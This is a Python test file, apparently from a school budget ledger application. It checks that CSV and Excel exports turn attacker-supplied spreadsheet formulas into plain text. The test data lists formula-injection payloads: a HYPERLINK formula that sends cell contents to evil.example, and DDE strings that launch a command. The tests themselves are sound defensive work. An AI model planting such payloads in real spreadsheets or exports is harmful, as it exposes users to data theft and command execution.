"""What an attacker types into the app: formulas for the accountant's spreadsheet, huge or exotic
numbers in query strings, NUL bytes, payment dates from another century."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from workflow.ledger import write_csv, write_xlsx

FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _rows() -> list[dict[str, object]]:
    return [
        {
            "number": f"2024-2025/{i:04d}",
            "school_year": "2024-2025",
            "budget_year": 2025,
            "line": "PRINT",
            "title": formula,
            "owner": "hanh",
            "approved_by": formula,
            "state": "paid",
            "amount_vnd": 450_000,
            "amount_paid_vnd": 450_000,
            "voucher": formula,
            "paid_on": "2025-02-01",
            "approved_hash": "ab" * 32,
        }
        for i, formula in enumerate(FORMULAS, 1)
    ]


def test_formula_in_a_title_reaches_the_csv_as_text_not_a_live_formula() -> None:
    out = io.StringIO()
    write_csv(_rows(), out)
    table = list(csv.reader(io.StringIO(out.getvalue()[1:])))
    titles = [row[6] for row in table[1:-1]]
    assert titles == ["'" + formula for formula in FORMULAS]
    assert all(row[12].startswith("'") for row in table[1:-1])  # the voucher too
    # numbers stay numbers: the accountant's sums still work
    assert [row[10] for row in table[1:-1]] == ["450000"] * len(FORMULAS)
    assert table[-1][10] == str(450_000 * len(FORMULAS))


def test_formula_in_a_title_is_a_text_cell_in_the_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "ledger.xlsx"
    write_xlsx(_rows(), str(path))
    sheet = load_workbook(path).active
    for index, formula in enumerate(FORMULAS, 2):
        title = sheet.cell(row=index, column=7)
        # NOTE: an XML reader may normalise a carriage return to a line feed; it stays text.
        assert title.data_type == "s"
        assert title.value.replace("\r", "\n") == formula.replace("\r", "\n")
        assert sheet.cell(row=index, column=11).data_type == "n"
        assert sheet.cell(row=index, column=11).value == 450_000
